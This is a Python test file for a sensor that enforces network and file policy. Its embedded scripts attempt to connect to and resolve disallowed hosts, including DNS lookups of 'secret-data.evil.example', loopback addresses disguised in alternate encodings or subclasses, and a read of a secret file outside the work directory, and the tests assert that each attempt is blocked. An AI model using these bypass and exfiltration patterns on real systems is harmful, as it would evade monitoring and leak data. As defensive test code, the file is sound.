from __future__ import annotations

from typing import TYPE_CHECKING

from aotel.sensor import Policy
from tests.sensor.program import BLOCKED

if TYPE_CHECKING:
    from pathlib import Path

    from tests.sensor.conftest import Watched
    from tests.sensor.receiver import Receiver

SERVER = """
server = socket.create_server(("127.0.0.1", 0))
port = server.getsockname()[1]
"""


def test_hosts_outside_are_blocked(watched: Watched, pod: Receiver, work: Path) -> None:
    watched(
        BLOCKED
        + SERVER
        + """
class Text(str):
    pass
class Address(tuple):
    def __getitem__(self, index):
        return "allowed.example"
client = socket.socket()
for address in (("127.0.0.1", port), (b"127.0.0.1", port), (bytearray(b"127.0.0.1"), port), (Text("127.0.0.1"), port),
                Address(("127.0.0.1", port)), ("127.1", port), ("2130706433", port), ("localhost", port), ("", port)):
    blocked(client.connect, address)
    blocked(client.connect_ex, address)
client.close()
blocked(socket.create_connection, ("127.0.0.1", port))
udp = socket.socket(type=socket.SOCK_DGRAM)
blocked(udp.sendto, b"x", ("127.0.0.1", port))
blocked(udp.sendmsg, [b"x"], [], 0, ("127.0.0.1", port))
udp.close()
by_name = (socket.gethostbyname, socket.gethostbyname_ex, socket.gethostbyaddr)
for look_up in (*by_name, lambda host: socket.getaddrinfo(host, 80)):
    blocked(look_up, "secret-data.evil.example")
    blocked(look_up, Text("secret-data.evil.example"))
    blocked(look_up, b"secret-data.evil.example")
import urllib.request, urllib.error
try:
    urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5)
except urllib.error.URLError as error:
    assert isinstance(error.reason, PermissionError)
else:
    raise SystemExit("let through")
local = socket.socket(socket.AF_UNIX)
local.bind("local.sock")
local.listen()
peer = socket.socket(socket.AF_UNIX)
peer.connect("local.sock")
peer.close(), local.close(), server.close()
""",
        policy=Policy(("allowed.example", "10.0.0.0/8"), (), enforce=True),
    )
    assert {event["decision"] for event in pod.of("policy_violation", kind="host")} == {"blocked"}
    assert not pod.of("net_connect")
    assert not pod.of("dns_query")


def test_hosts_inside_go_on_by_name_and_by_network(watched: Watched, pod: Receiver, work: Path) -> None:
    watched(
        BLOCKED
        + SERVER
        + """
socket.create_connection(("localhost", port)).close()
socket.create_connection((socket.gethostbyname("localhost"), port)).close()
sensor.stop()
sensor.start(("network",), sensor_path, policy=sensor.Policy((f"127.0.0.0/8:{port}",), (), True))
socket.create_connection(("127.0.0.1", port)).close()
blocked(socket.create_connection, ("127.0.0.1", port + 1 if port < 65535 else 1))
socket.getaddrinfo("localhost", 80)
server.close()
""".replace("sensor_path", repr(pod.path)),
        policy=Policy(("localhost",), (), enforce=True),
    )


def test_asyncio_and_threads_are_held_as_well(watched: Watched, pod: Receiver, work: Path, outside: Path) -> None:
    watched(
        BLOCKED
        + SERVER
        + f"""
import asyncio, threading
async def main():
    for host in ("127.0.0.1", "evil.example"):
        try:
            await asyncio.open_connection(host, port)
        except PermissionError as error:
            assert "policy blocks" in str(error)
        else:
            raise SystemExit("let through")
asyncio.run(main())
done = []
def other():
    blocked(open, {str(outside / "secret.txt")!r})
    done.append(True)
thread = threading.Thread(target=other)
thread.start()
thread.join()
assert done
server.close()
""",
        policy=Policy(("allowed.example",), (str(work),), enforce=True),
    )
